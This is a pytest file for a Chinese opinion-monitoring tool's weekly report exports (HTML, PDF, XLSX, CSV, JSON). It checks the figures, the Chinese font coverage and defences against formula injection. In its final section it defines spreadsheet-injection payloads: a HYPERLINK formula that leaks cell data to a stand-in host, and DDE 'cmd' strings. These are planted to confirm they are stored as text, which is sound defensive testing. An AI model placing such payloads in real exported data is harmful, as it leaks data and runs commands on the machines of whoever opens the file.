"""The weekly report's formats, rendered from the fixture week: each opened the way its reader
opens it (a browser's HTML, PDF pages turned into pictures, XLSX in openpyxl, CSV in Excel's
dialect) and checked for the figures and for Chinese drawn with real glyphs."""

import base64
import csv
import ctypes
import io
import json
import re
from datetime import timedelta

import openpyxl
import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_c
import pytest
from fontTools.ttLib import TTFont
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from monitor.reports.build import build_report
from monitor.reports.figures import Week
from monitor.reports.fonts import FontError, find_cjk_font
from tests.reports.test_figures import LABELS
from tests.reports.week import BEIJING, NOW, load_week


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    from monitor.db import make_engine, make_session_factory, upgrade_database

    url = f"sqlite:///{tmp_path_factory.mktemp('report') / 'fenghuo.db'}"
    upgrade_database(url)
    sessions = make_session_factory(make_engine(url))
    with sessions.begin() as session:
        load_week(session)
    steps = []
    with sessions() as session:
        figures, outputs = build_report(
            session, week=Week.parse("2026-W47"), formats=["html", "pdf", "xlsx", "csv", "json"], zone=BEIJING,
            now=NOW, ack_target=timedelta(minutes=30), labels=LABELS, group_names={"incident": "突发事件"},
            on_step=steps.append,
        )
    return figures, outputs, steps


def visible_text(html: str) -> str:
    tree = HTMLParser(html)
    for node in tree.css("style, script, svg"):
        node.decompose()
    return tree.body.text(separator=" ")


def test_every_step_is_announced_for_the_progress_bar(report):
    assert report[2] == ["figures", "html", "pdf", "xlsx", "csv", "json"]


def test_html_is_self_contained_and_has_a_glyph_for_every_character(report):
    figures, outputs, _ = report
    html = outputs["html"].decode("utf-8")
    assert not re.search(r"""(src|href)\s*=\s*["']?https?:""", html), "the report must open offline"
    # daily, levels, tiers, outlets, keyword groups; and each busy group's volume over its band
    assert figures["volume"] and html.count('src="data:image/svg+xml;base64,') == 5 + len(figures["volume"])
    text = visible_text(html)
    assert figures["summary"] in text
    assert "江城水务管网爆裂致多个小区停水" in text and "四级（红色）" in text and "已发布情况通报" in text
    embedded = re.search(r"url\(data:font/otf;base64,([A-Za-z0-9+/=]+)\)", html)[1]
    font = TTFont(io.BytesIO(base64.b64decode(embedded)))
    covered = set(font.getBestCmap())
    missing = {c for c in text if not c.isspace() and ord(c) not in covered}
    assert not missing, f"characters the embedded font cannot draw: {sorted(missing)}"
    assert len(embedded) < 400_000  # a subset, not the 16 MB font


def _fonts_of_characters(page) -> dict[str, set[str]]:
    textpage = page.get_textpage()
    fonts: dict[str, set[str]] = {}
    buffer = ctypes.create_string_buffer(256)
    flags = ctypes.c_int()
    for index in range(textpage.count_chars()):
        char = chr(pdfium_c.FPDFText_GetUnicode(textpage.raw, index))
        if char.isspace() or not char.isprintable():
            continue
        pdfium_c.FPDFText_GetFontInfo(textpage.raw, index, buffer, len(buffer), ctypes.byref(flags))
        fonts.setdefault(buffer.value.decode("latin-1"), set()).add(char)
    return fonts


def test_pdf_pages_render_with_chinese_in_the_report_font(report, tmp_path):
    _, outputs, _ = report
    pdf = pdfium.PdfDocument(outputs["pdf"])
    assert 3 <= len(pdf) <= 8
    text = "".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf)))
    for phrase in ("舆情监测周报（2026-W47）", "江城水务管网爆裂致多个小区停水", "按时处置率", "第 1 页"):
        assert phrase in text.replace("\r\n", "").replace("\n", ""), phrase
    for number in range(len(pdf)):
        image = pdf[number].render(scale=1).to_pil()
        image.save(tmp_path / f"page-{number + 1}.png")
        assert image.size[0] > 500
        fonts = _fonts_of_characters(pdf[number])
        # Every character is set in the embedded report font: none fell back to a font without
        # Chinese, which is what draws boxes. (The charts are outlines, not text.)
        assert fonts and all("FenghuoReport" in name for name in fonts), {k: sorted(v)[:10] for k, v in fonts.items()}
    assert "\ufffd" not in text


def test_xlsx_has_one_sheet_per_table_with_real_numbers(report):
    figures, outputs, _ = report
    book = openpyxl.load_workbook(io.BytesIO(outputs["xlsx"]))
    assert book.sheetnames == ["概览", "每日", "级别", "事件", "媒体", "层级", "地区", "关键词", "值班", "橙红预警", "复盘",
                               "信息"]
    overview = {row[0]: row[1:] for row in book["概览"].iter_rows(min_row=2, values_only=True)}
    assert overview["采集信息（条）"] == (8, 3, 5)
    assert overview["负面占比"] == (0.667, 0.5, 0.167)
    assert overview["预警：四级（红色）"] == (1, 0, 1)
    duty = dict(book["值班"].iter_rows(min_row=2, values_only=True))
    assert duty["按时处置率"] == 0.5 and duty["超时"] == 1 and duty["发现时效中位（分钟）"] == 135.0
    daily = list(book["每日"].iter_rows(min_row=2, values_only=True))
    assert daily[0] == ("2026-11-16", 2, 0, 0, 2, 2)
    assert book["信息"].max_row == 1 + 6
    events = list(book["事件"].iter_rows(min_row=2, values_only=True))
    assert [row[1] for row in events] == [e["title"] for e in figures["events"]]


def test_the_week_reviews_in_html_pdf_xlsx_and_json(report):
    figures, outputs, _ = report
    text = visible_text(outputs["html"].decode("utf-8"))
    assert "八、事件复盘" in text
    # The fixture week's one review: A, red, found in time, accurate, the red answered late.
    words = " ".join(text.split())
    assert "发现及时率 100%（1 / 0 / 0）" in words and "预警准确率 100%（1 / 0 / 0）" in words
    assert "处置及时率 0%（0 / 1 / 0）" in words
    assert "fenghuo events review 1 --format html" in text and "待填写" in text
    pdf = pdfium.PdfDocument(outputs["pdf"])
    pages = "".join(pdf[i].get_textpage().get_text_range() for i in range(len(pdf))).replace("\r\n", "").replace("\n", "")
    assert "八、事件复盘" in pages and "预警准确率" in pages
    book = openpyxl.load_workbook(io.BytesIO(outputs["xlsx"]))
    duty = dict(book["值班"].iter_rows(min_row=2, values_only=True))
    assert (duty["发现及时率"], duty["预警准确率"], duty["处置及时率"], duty["复盘事件"]) == (1.0, 1.0, 0.0, 1)
    rows = list(book["复盘"].iter_rows(values_only=True))
    assert rows[0][:2] == ("event_id", "title")
    assert rows[1] == (1, "江城水务管网爆裂致多个小区停水", "red", True, 10.0, True, True, False, False,
                       "fenghuo events review 1 --format html")
    assert json.loads(outputs["json"])["reviews"] == json.loads(json.dumps(figures["reviews"]))


def test_a_review_link_is_clickable_when_the_service_has_a_public_address(tmp_path):
    from monitor.db import make_engine, make_session_factory, upgrade_database

    url = f"sqlite:///{tmp_path / 'fenghuo.db'}"
    upgrade_database(url)
    sessions = make_session_factory(make_engine(url))
    with sessions.begin() as session:
        load_week(session)
    with sessions() as session:
        _, outputs = build_report(
            session, week=Week.parse("2026-W47"), formats=["html"], zone=BEIJING, now=NOW,
            ack_target=timedelta(minutes=30), labels=LABELS, public_url="https://yq.example.cn",
        )
    html = outputs["html"].decode("utf-8")
    assert '<a href="https://yq.example.cn/api/v1/events/1/review?format=html">' in html


def test_csv_of_events_and_items_opens_in_excel_dialect(report):
    _, outputs, _ = report
    for name, rows_expected in (("csv", 3), ("items.csv", 6)):
        data = outputs[name]
        assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
        assert len(rows) == rows_expected
    events = list(csv.DictReader(io.StringIO(outputs["csv"].decode("utf-8-sig"))))
    assert events[0]["title"] == "江城水务管网爆裂致多个小区停水"
    assert events[0]["peak_level"] == "red" and events[0]["handling_status"] == "resolved"


def test_json_is_the_figures(report):
    figures, outputs, _ = report
    assert json.loads(outputs["json"]) == json.loads(json.dumps(figures))


def test_a_missing_chinese_font_is_a_clear_error(tmp_path):
    latin = tmp_path / "DejaVuSans.ttf"
    latin.write_bytes(open("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf", "rb").read())
    with pytest.raises(FontError, match="has no Chinese characters; install a Chinese font"):
        find_cjk_font(latin)
    with pytest.raises(FontError, match="does not exist"):
        find_cjk_font(tmp_path / "nothing.otf")


# -- hostile text: titles, names and notes written by others must never become formulas ---------

EVIL = '=HYPERLINK("http://evil.invalid/?leak="&A1,"点此查看")'
HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    from sqlalchemy import update

    from monitor.db import make_engine, make_session_factory, upgrade_database
    from monitor.db.models import Alert, Event, Item, Outlet

    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'fenghuo.db'}"
    upgrade_database(url)
    sessions = make_session_factory(make_engine(url))
    with sessions.begin() as session:
        load_week(session)
        # Every text a report copies from outside: feed titles, outlet names and regions, the
        # duty officers' assignee and outcome; one with a control character openpyxl refuses.
        for number, item_id in enumerate(range(1, 14)):
            session.execute(update(Item).where(Item.id == item_id).values(title=HOSTILE[number % len(HOSTILE)]))
        session.execute(update(Event).where(Event.id == 1).values(title=EVIL))
        session.execute(update(Event).where(Event.id == 2).values(title="-网传\x01负责人不当言论"))
        session.execute(update(Alert).values(title=EVIL, assignee="@王值班", outcome="=1+1"))
        session.execute(update(Outlet).where(Outlet.id == "forum").values(name="+江城论坛", region="-江城"))
    with sessions() as session:
        return build_report(
            session, week=Week.parse("2026-W47"), formats=["html", "pdf", "xlsx", "csv", "json"], zone=BEIJING,
            now=NOW, ack_target=timedelta(minutes=30), labels=LABELS, group_names={"incident": "=突发事件"},
        )


def test_xlsx_stores_hostile_text_as_text_never_a_formula(hostile_report):
    figures, outputs = hostile_report
    book = openpyxl.load_workbook(io.BytesIO(outputs["xlsx"]))
    formulas = [f"{ws.title}!{cell.coordinate}" for ws in book for row in ws.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == []  # before: 事件!B2, 橙红预警!D2, 信息!G… were live formulas
    events = book["事件"]
    assert events["B2"].value == EVIL and events["B2"].data_type == "s" and events["B2"].quotePrefix
    assert events["B3"].value == "-网传负责人不当言论"  # the control character dropped, the rest kept
    texts = {cell.value for ws in book for row in ws.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)}
    assert {EVIL, "@王值班", "=1+1", "+江城论坛", "-江城", "=突发事件", "-2+3"} <= texts
    assert {"\t=1+1", " =1+1"} <= texts  # the text as it was; only its cell type says "text"
    # Real numbers stay numbers, negative ones included.
    overview = {row[0]: row[1:] for row in book["概览"].iter_rows(min_row=2, values_only=True)}
    assert overview["采集信息（条）"] == (8, 3, 5) and all(
        isinstance(value, (int, float)) for value in overview["负面占比"])


def test_negative_numbers_stay_numbers_and_only_text_is_prefixed(hostile_report):
    from monitor.reports.render import render_csv, render_xlsx

    figures, _ = hostile_report
    assert render_csv([{"a": -3, "b": -0.5, "c": "-3", "d": "+86 138"}], ["a", "b", "c", "d"]).decode(
        "utf-8-sig").splitlines()[1] == "-3,-0.5,'-3,'+86 138"
    fewer = {**figures, "change": {**figures["change"], "items": -4, "negative_share": -0.25}}
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(fewer, [], LABELS)))
    overview = {row[0]: row[1:] for row in book["概览"].iter_rows(min_row=2, values_only=True)}
    assert overview["采集信息（条）"][2] == -4 and overview["负面占比"][2] == -0.25
    assert book["概览"]["D2"].data_type == "n"


def test_csv_prefixes_every_formula_like_field(hostile_report):
    _, outputs = hostile_report
    for name in ("csv", "items.csv"):
        rows = list(csv.reader(io.StringIO(outputs[name].decode("utf-8-sig"))))
        fields = [field for row in rows[1:] for field in row]
        live = [field for field in fields if field[:1] in ("=", "+", "-", "@", "\t", "\r")
                and not re.fullmatch(r"-?\d+(\.\d+)?", field)]
        assert live == [], name  # before: the title and the others went out as written
        assert not [field for field in fields if field.lstrip(" ").startswith(("=", "+", "-", "@"))
                    and not re.fullmatch(r"-?\d+(\.\d+)?", field)], name
    events = list(csv.DictReader(io.StringIO(outputs["csv"].decode("utf-8-sig"))))
    assert events[0]["title"] == "'" + EVIL and events[0]["assignee"] == "'@王值班" and events[0]["outcome"] == "'=1+1"
    items = list(csv.DictReader(io.StringIO(outputs["items.csv"].decode("utf-8-sig"))))
    assert {row["title"] for row in items} >= {"'" + EVIL, "'-2+3", "'\t=1+1", "' =1+1"}
    assert {row["outlet"] for row in items} >= {"'+江城论坛"}
    assert all(re.fullmatch(r"\d+(\.\d+)?", row["negative_prob"]) for row in items if row["negative_prob"])


def test_html_pdf_and_json_carry_hostile_text_as_text(hostile_report):
    figures, outputs = hostile_report
    html = outputs["html"].decode("utf-8")
    assert EVIL in visible_text(html)  # shown as written, escaped
    assert 'href="http://evil' not in html and "&#34;http://evil" in html
    assert len(pdfium.PdfDocument(outputs["pdf"])) >= 3
    assert json.loads(outputs["json"])["events"][0]["title"] == EVIL  # data, for programs: as it is
